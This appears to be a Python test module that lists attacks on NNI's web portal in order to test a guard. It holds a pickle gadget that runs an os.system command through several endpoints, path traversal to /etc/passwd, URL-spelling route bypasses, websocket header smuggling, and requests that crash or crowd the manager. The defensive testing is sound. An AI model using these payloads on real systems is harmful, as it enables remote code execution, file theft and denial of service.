"""The attacks on the portal, and how to see that one has succeeded."""

import base64
import json
import os
import pickle
from dataclasses import dataclass
from pathlib import Path
from typing import Any

API = "/api/v1/nni"
ENDS = "the manager ends"


@dataclass(frozen=True)
class Attack:
    name: str
    method: str
    path: str
    body: str | None = None
    marker: Path | None = None  # made by the code that was smuggled in
    answer: str = ""  # what an answer holds when the attack was let in; ENDS: the manager has ended


class Touch:
    """Unpickled, it makes a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.system, (f"touch {self.file}",)


def smuggled(marker: Path) -> dict[str, str]:
    return {"__nni_type__": "bytes:" + base64.b64encode(pickle.dumps(Touch(marker))).decode()}


def attacks(trial: str, folder: Path) -> list[Attack]:
    """Those that NNI lets anyone make."""
    up = "..%2f" * 12
    marker = {name: folder / f"marker_{name}" for name in ("trial", "space", "data", "metric", "tuner")}
    space = {"params": {"searchSpace": {"x": {"_type": "choice", "_value": [smuggled(marker["space"])]}}}}
    data = [{"parameter": smuggled(marker["data"]), "value": 1}]
    metric = {"parameter_id": 0, "trial_job_id": trial, "type": "FINAL", "sequence": 0}
    metric["value"] = json.dumps(smuggled(marker["metric"]))
    job = {"parameter_id": 99, "parameter_source": "algorithm", "parameters": smuggled(marker["tuner"])}
    command = json.dumps({"type": "TR", "content": json.dumps({**job, "parameter_index": 0})})
    again = {"experimentName": "taken over", "trainingService": {"platform": "local"}, "tuner": {"name": "Random"}}
    metric_command = json.dumps({"type": "metric", "metric": json.dumps(metric)})
    return [
        Attack("read any file", "GET", f"{API}/trial-file/{trial}/{up}etc%2fpasswd", answer="root:"),
        Attack("read the configuration", "GET", f"{API}/experiment", answer="trialCommand"),
        Attack("read a log", "GET", "/logs/nnimanager.log", answer="INFO"),
        Attack("code in a metric", "PUT", f"/env/local-env/{trial}", metric_command, marker["metric"]),
        Attack("code in imported data", "POST", f"{API}/experiment/import-data", json.dumps(data), marker["data"]),
        Attack(
            "code in the search space",
            "PUT",
            f"{API}/experiment?update_type=SEARCH_SPACE",
            json.dumps(space),
            marker["space"],
        ),
        Attack("stop a trial", "DELETE", f"{API}/trial-jobs/{trial}", answer="200"),
        Attack("code in a trial", "POST", f"{API}/trial-jobs", json.dumps(smuggled(marker["trial"])), marker["trial"]),
        Attack("code through the tuner's websocket", "WEBSOCKET", "/tuner", command, marker["tuner"]),
        Attack("start TensorBoard", "POST", f"{API}/tensorboard", json.dumps({"trials": trial}), answer='"pid"'),
        Attack("start the experiment again", "POST", f"{API}/experiment", json.dumps(again), answer="experiment_id"),
        Attack("end the manager", "PUT", f"{API}/experiment/cluster-metadata", json.dumps({"x": 1}), answer=ENDS),
    ]


# Spellings that NNI's server takes for the address, found by tests/trials/experiment/guard/portal/test_targets.py.
NETRON = [
    "/netron/x",
    "/netron#",
    "/netron/x?#",
    "/NETRON/x",
    "http://localhost/netron/x",
    "/netron/%78",
    "/netron/x\\",
]
TUNER = [
    "/tuner#",
    "/TUNER",
    "/tuner/",
    "/tuner?#",
    "http://localhost/tuner",
    "ws://x/tuner",
    "/tuner/%2e%2e",
    "/Tuner?#%",
]
METADATA = [
    f"{API}/experiment/cluster-metadata#?",
    f"{API.upper()}/EXPERIMENT/CLUSTER-METADATA",
    f"{API}/experiment/cluster-metadata/",
    f"{API}/experiment/cluster-metadata?#",
    f"http://localhost{API}/experiment/cluster-metadata",
    f"ws://x{API}/experiment/cluster-metadata",
]
WEBSOCKET = (
    "Host: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)


def spelled() -> list[Attack]:
    """Addresses that the guard switches off, in other spellings."""
    body = "Host: localhost\r\nConnection: close\r\n"
    json_body = f'{body}Content-Type: application/json\r\nContent-Length: 7\r\n\r\n{{"x":1}}'
    return [
        *[Attack(f"netron as {one}", "RAW", "", f"GET {one} HTTP/1.1\r\n{body}\r\n", answer=ENDS) for one in NETRON],
        *[
            Attack(f"the tuner's place as {one}", "RAW", "", f"GET {one} HTTP/1.1\r\n{WEBSOCKET}", answer=" 101 ")
            for one in TUNER
        ],
        *[
            Attack(f"cluster metadata as {one}", "RAW", "", f"PUT {one} HTTP/1.1\r\n{json_body}", answer=ENDS)
            for one in METADATA
        ],
    ]


def failing(trial: str) -> list[Attack]:
    """Requests on which NNI's handlers fail."""
    metric = json.dumps({"type": "metric", "metric": "no JSON"})
    return [
        Attack("a metric that is no JSON", "PUT", f"/env/local-env/{trial}", metric, answer=ENDS),
        Attack("a metric without a type", "PUT", f"/env/local-env/{trial}", json.dumps({"metric": "{}"}), answer=ENDS),
        Attack("a command that is null", "PUT", f"/env/local-env/{trial}", "[]", answer=ENDS),
    ]


def idle() -> list[Attack]:
    """What another user of the machine can see and hold."""
    return [
        Attack("read the configuration with ps", "PS", "", answer="trialCommand"),
        Attack("hold 200 idle connections for 15 s", "CROWD", "", answer="held"),
        Attack("send 200 heads slowly for 15 s", "CROWD", "", "GET / HTTP/1.1\r\n", answer="held"),
    ]


def through_tunnel(target: str) -> list[Attack]:
    """What a host sends to get at the rest of the portal; it knows the `target` of its own websocket."""
    wanted = f"GET {API}/experiment HTTP/1.1\r\nHost: localhost\r\n\r\n"
    first = f"GET {target} HTTP/1.1\r\n"
    ways = {
        "no Connection header": first + WEBSOCKET.replace("Connection: Upgrade\r\n", ""),
        "Connection: keep-alive": first + WEBSOCKET.replace("Connection: Upgrade", "Connection: keep-alive"),
        "no key": first + WEBSOCKET.replace("Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", ""),
        "version 12": first + WEBSOCKET.replace("13", "12"),
        "Upgrade: h2c": first + WEBSOCKET.replace("Upgrade: websocket", "Upgrade: h2c"),
        "a body": first + "Content-Length: 0\r\n" + WEBSOCKET.replace("Connection: Upgrade\r\n", ""),
        "POST": first.replace("GET", "POST") + WEBSOCKET,
        "the portal itself": "",
    }
    return [
        Attack(f"a host reads the configuration: {way}", "RAW", "", head + wanted, answer="trialCommand")
        for way, head in ways.items()
    ]
